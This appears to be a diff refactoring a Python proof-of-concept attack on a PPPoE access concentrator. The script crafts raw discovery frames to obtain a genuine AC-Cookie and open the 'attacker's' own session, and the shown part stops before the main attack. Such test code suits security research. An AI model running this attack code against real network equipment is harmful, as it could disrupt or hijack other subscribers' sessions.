@@ -57,38 +57,36 @@ def ipv4(src, dst, payload=b"\x08\x00\xf7\xff\x00\x00\x00\x00"):
     return hdr[:10] + struct.pack("!H", ~s & 0xFFFF) + hdr[12:] + payload
 
 
-def get_cookie():
-    """A genuine AC-Cookie, issued to ME."""
-    sock.send(disc(BCAST, ME, 0x09, tag(0x0101, b"")))
+def await_discovery(code):
+    """The next discovery frame with `code` sent to ME, or exit."""
     end = time.time() + 2
     while time.time() < end:
         try:
             f = sock.recv(2000)
         except socket.timeout:
             continue
-        if f[0:6] != mac(ME) or f[12:14] != b"\x88\x63" or f[15] != 0x07:
-            continue
-        tags, pos = f[20:20 + struct.unpack("!H", f[18:20])[0]], 0
-        while pos + 4 <= len(tags):
-            t, ln = struct.unpack("!HH", tags[pos:pos + 4])
-            if t == 0x0104:
-                return tags[pos + 4:pos + 4 + ln]
-            pos += 4 + ln
+        if f[0:6] == mac(ME) and f[12:14] == b"\x88\x63" and f[15] == code:
+            return f
+    raise SystemExit(f"no discovery code {code:#x} for the attacker")
+
+
+def get_cookie():
+    """A genuine AC-Cookie, issued to ME."""
+    sock.send(disc(BCAST, ME, 0x09, tag(0x0101, b"")))
+    f = await_discovery(0x07)
+    tags, pos = f[20:20 + struct.unpack("!H", f[18:20])[0]], 0
+    while pos + 4 <= len(tags):
+        t, ln = struct.unpack("!HH", tags[pos:pos + 4])
+        if t == 0x0104:
+            return tags[pos + 4:pos + 4 + ln]
+        pos += 4 + ln
     raise SystemExit("no PADO with an AC-Cookie")
 
 
 def own_session(cookie):
     """The attacker's own session: PADR with its genuine cookie, then the ID from the PADS."""
     sock.send(disc(AC, ME, 0x19, tag(0x0101, b"") + tag(0x0104, cookie)))
-    end = time.time() + 2
-    while time.time() < end:
-        try:
-            f = sock.recv(2000)
-        except socket.timeout:
-            continue
-        if f[0:6] == mac(ME) and f[12:14] == b"\x88\x63" and f[15] == 0x65:
-            return struct.unpack("!H", f[16:18])[0]
-    raise SystemExit("no PADS for the attacker")
+    return struct.unpack("!H", await_discovery(0x65)[16:18])[0]
 
 
 cookie = get_cookie()
